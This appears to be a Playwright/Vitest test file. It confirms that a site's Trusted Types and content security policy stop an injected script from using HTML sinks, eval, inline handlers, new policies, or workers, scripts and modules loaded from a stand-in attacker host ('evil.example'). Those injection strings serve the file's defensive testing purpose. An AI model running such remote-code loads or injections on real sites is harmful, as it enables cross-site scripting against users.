/** That everything still works under the policy is shown by the other tests: `visitor` fails them when a page breaks it. */
import type { Page } from 'playwright-core';
import { beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { address, BROKEN_POLICY, browser, goTo } from './browser.ts';

/** What a script that got into a page may try. As texts: the tests' own tools would rewrite an import. */
const ATTEMPTS = {
  'markup in the page': `document.body.innerHTML = '<img>'`,
  'markup of a document': `new DOMParser().parseFromString('<img>', 'text/html')`,
  'markup that is written': `document.write('<img>')`,
  'markup beside an element': `document.body.insertAdjacentHTML('beforeend', '<img>')`,
  'a document in a frame': `document.createElement('iframe').srcdoc = '<img>'`,
  'a worker from elsewhere': `new Worker('https://evil.example/x.js')`,
  'a worker from here': `new Worker('/pagefind/pagefind-worker.js')`,
  'a worker from a text': `new Worker(URL.createObjectURL(new Blob(['0'])))`,
  'a script from elsewhere': `document.createElement('script').src = 'https://evil.example/x.js'`,
  'a script from a text': `document.createElement('script').text = '0'`,
  'a module from elsewhere': `return import('https://evil.example/x.js')`,
  'a handler from a text': `document.body.setAttribute('onclick', '0')`,
  'code from a text': `eval('0')`,
  'a policy for everything': `trustedTypes.createPolicy('default', {})`,
  'a policy of its own': `trustedTypes.createPolicy('mine', {})`,
  'the policy of the search a second time': `trustedTypes.createPolicy('search-worker', {})`,
};

let page: Page;
let broken: string[] = [];

beforeAll(async () => {
  const context = await browser.newContext({ baseURL: address });
  page = await context.newPage();
  page.on('console', (message) => {
    if (BROKEN_POLICY.test(message.text())) broken.push(message.text());
  });
  await goTo(page, '/');
  await page.locator('[data-search] input').fill('stop autopay');
  await page.getByRole('option').first().waitFor();
  expect(broken).toEqual([]);
  return () => context.close();
});

beforeEach(() => {
  broken = [];
});

/** Runs it as a script of the page would run: what the debugger itself runs may use eval, what a timer runs may not. */
const outcome = (code: string): Promise<string> =>
  page.evaluate(`new Promise((tell) => setTimeout(async () => {
    try { await (async () => { ${code} })(); tell('done'); } catch (error) { tell(error.name); }
  }))`);

describe('a script that got into a page', () => {
  it.each(Object.entries(ATTEMPTS))('a script that got into a page cannot make %s', async (_, code) => {
    expect(await outcome(code)).toMatch(/^(?:Type|Eval)Error$/);
    expect(broken).not.toEqual([]);
  });
});
